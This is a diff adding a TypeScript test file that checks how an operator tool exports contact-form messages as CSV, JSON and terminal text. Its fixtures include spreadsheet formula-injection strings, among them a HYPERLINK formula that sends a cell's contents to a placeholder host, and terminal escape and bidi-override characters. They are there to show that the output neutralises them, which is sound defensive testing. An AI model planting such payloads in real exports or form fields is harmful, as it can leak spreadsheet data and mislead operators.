@@ -1,0 +1,149 @@
+import { expect, test } from "vitest";
+import { makeContactRecord, type ContactRecord } from "#functions/contact/contact-record.ts";
+import { listMessages, type MessageFormat, type Period } from "#infra/operator/list-messages.ts";
+import { canaryRecordPrefix, testMailbox } from "#shared/canary.ts";
+import type { ContactMessage } from "#shared/contract/contact.ts";
+import { makeMessage } from "#test/support/contact-messages.ts";
+
+const noon = Date.UTC(2026, 10, 20, 12);
+const always: Period = { fromEpochMs: 0, untilEpochMs: Number.POSITIVE_INFINITY };
+
+const makeRecord = (key: string, minutes: number, changes: Partial<ContactMessage> = {}): ContactRecord =>
+  makeContactRecord({
+    message: makeMessage(changes),
+    key,
+    requestId: "edge-id",
+    spamReasons: [],
+    country: "IN",
+    nowEpochMs: noon + minutes * 60_000,
+  });
+
+const list = async (records: readonly ContactRecord[], format: MessageFormat, period = always) => {
+  const lines: string[] = [];
+  const reads: number[] = [];
+  const rows: readonly object[] = [...records, { id: "mails#2026-11-20", taken: 3 }];
+  const count = await listMessages({
+    pages: (async function* () {
+      for (const row of rows) yield Promise.resolve([{ ...row }]);
+    })(),
+    find: (id) => Promise.resolve(records.find((record) => record.id === id)),
+    rateLimit: (units) => Promise.resolve(void reads.push(units)),
+    period,
+    format,
+    say: (line) => void lines.push(line),
+  });
+  return { lines, count, reads };
+};
+
+/** RFC 4180, read by its own rules. */
+const readCsv = (text: string): readonly (readonly string[])[] => {
+  const rows: string[][] = [];
+  for (const [, quoted, plain = "", end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
+    const row = rows.at(-1);
+    const value = quoted === undefined ? plain : quoted.replaceAll('""', '"');
+    if (row === undefined || row.at(-1) === "\n") rows.push([value]);
+    else row.push(value);
+    if (end !== ",") rows.at(-1)!.push("\n");
+  }
+  return rows.map((row) => row.filter((value) => value !== "\n"));
+};
+
+const header =
+  "reference,received_at,state,parked_because,name,email,event_type,attendees,country,spam,message";
+
+test("[CONT-13] messages come newest first, whatever order the table has, with the state of their mail", async () => {
+  const [first, second, third] = [
+    makeRecord("a".repeat(16), 1),
+    makeRecord("b".repeat(16), 2),
+    makeRecord("c".repeat(16), 3),
+  ];
+  const parked = {
+    ...second,
+    delivery: { ...second.delivery, mail: "parked", parkedBecause: "two mails bounced" },
+  } as const;
+  const { mail: _mail, ...done } = third.delivery;
+  const { lines, count } = await list([parked, { ...third, delivery: done }, first], "csv");
+  expect(count).toBe(3);
+  expect(lines[0]).toBe(`${header}\r`);
+  expect(lines.slice(1).map((line) => line.split(",").slice(0, 4))).toEqual([
+    [third.ref, "2026-11-20T12:03:00.000Z", "done", ""],
+    [second.ref, "2026-11-20T12:02:00.000Z", "parked", "two mails bounced"],
+    [first.ref, "2026-11-20T12:01:00.000Z", "pending", ""],
+  ]);
+});
+
+test("[CONT-13] a period holds its first moment and not its end", async () => {
+  const records = [0, 1, 2].map((minutes) => makeRecord(`${minutes}`.repeat(16), minutes));
+  const period = { fromEpochMs: noon + 60_000, untilEpochMs: noon + 120_000 };
+  expect((await list(records, "csv", period)).lines.slice(1)).toEqual([expect.stringContaining("12:01:00")]);
+});
+
+const formulas = ["=1+1", "+1", "-1", "@SUM(A1)", "＝1+1", `=HYPERLINK("https://x.example?"&A1,"Click")`];
+
+test.each(formulas)("[CONT-13] a spreadsheet does not calculate %s, in whatever column", async (formula) => {
+  const changes = {
+    name: formula,
+    eventType: formula,
+    attendees: formula,
+    message: `${formula}\r\n"=2+2", and more`,
+  };
+  const { lines } = await list([makeRecord("a".repeat(16), 0, changes)], "csv");
+  const [names = [], values = []] = readCsv(lines.map((line) => `${line}\n`).join(""));
+  expect(values).toHaveLength(names.length);
+  for (const name of ["name", "event_type", "attendees", "message"])
+    expect(values[names.indexOf(name)]).toMatch(/^'[=+\-@＝]/);
+  expect(values.at(-1)).toBe(`'${changes.message}`);
+});
+
+test("[CONT-13] the JSON is one document, also of nothing, and holds every word as it was written", async () => {
+  const message = 'Zoë said: "Hello",\n\n\tand = 👩‍👩‍👧 \u202e';
+  const record = {
+    ...makeRecord("a".repeat(16), 0, { message }),
+    spamReasons: ["5 links", "a link in the name"],
+  };
+  const { lines } = await list([record, makeRecord("b".repeat(16), -1)], "json");
+  const [read] = JSON.parse(lines.join("\n")) as readonly Readonly<Record<string, string>>[];
+  expect(read).toMatchObject({
+    reference: record.ref,
+    country: "IN",
+    spam: "5 links; a link in the name",
+    message,
+  });
+  expect(Object.keys(read!).join()).toBe(header);
+  expect(JSON.parse((await list([], "json")).lines.join("\n"))).toEqual([]);
+});
+
+test("[CONT-13] what is shown in a terminal cannot steer it", async () => {
+  const message = "Red \u001b[31m and \u0007 and \u202eback\nSecond line";
+  const record = { ...makeRecord("a".repeat(16), 0), spamReasons: ["5 links"] };
+  const { lines } = await list([{ ...record, message: { ...record.message, message } }], "text");
+  expect(lines.join("\n").split("\n")).toEqual([
+    `${record.ref}  2026-11-20T12:00:00.000Z  pending`,
+    "    Priya Raman <priya@northlight.example>  Conference  201-500  IN",
+    "    likely spam: 5 links",
+    "    Red [31m and  and back",
+    "    Second line",
+    "",
+  ]);
+});
+
+test("[CONT-13] the canary's messages are not listed; what only resembles them is", async () => {
+  const of = (id: string, testSignature: string | undefined, email: string) => ({
+    ...makeRecord("a".repeat(16), 0, { email }),
+    id,
+    ...(testSignature !== undefined && { testSignature }),
+  });
+  const canary = of(`${canaryRecordPrefix}1`, "t=1, mac=x", testMailbox);
+  const others = [
+    of(`${canaryRecordPrefix}2`, undefined, testMailbox),
+    of(`${canaryRecordPrefix}3`, "t=1, mac=x", "priya@northlight.example"),
+    of("k-a-key-of-a-visitor", "t=1, mac=x", testMailbox),
+  ];
+  expect((await list([canary, ...others], "csv")).count).toBe(3);
+});
+
+test("[CONT-13] rows are read a few at a time, at the rate that is left to operators", async () => {
+  const records = Array.from({ length: 60 }, (_, index) => makeRecord(`key-of-visitor-${index}x`, index));
+  const { count, reads } = await list(records, "csv");
+  expect([count, reads]).toEqual([60, [50, 50, 20]]);
+});
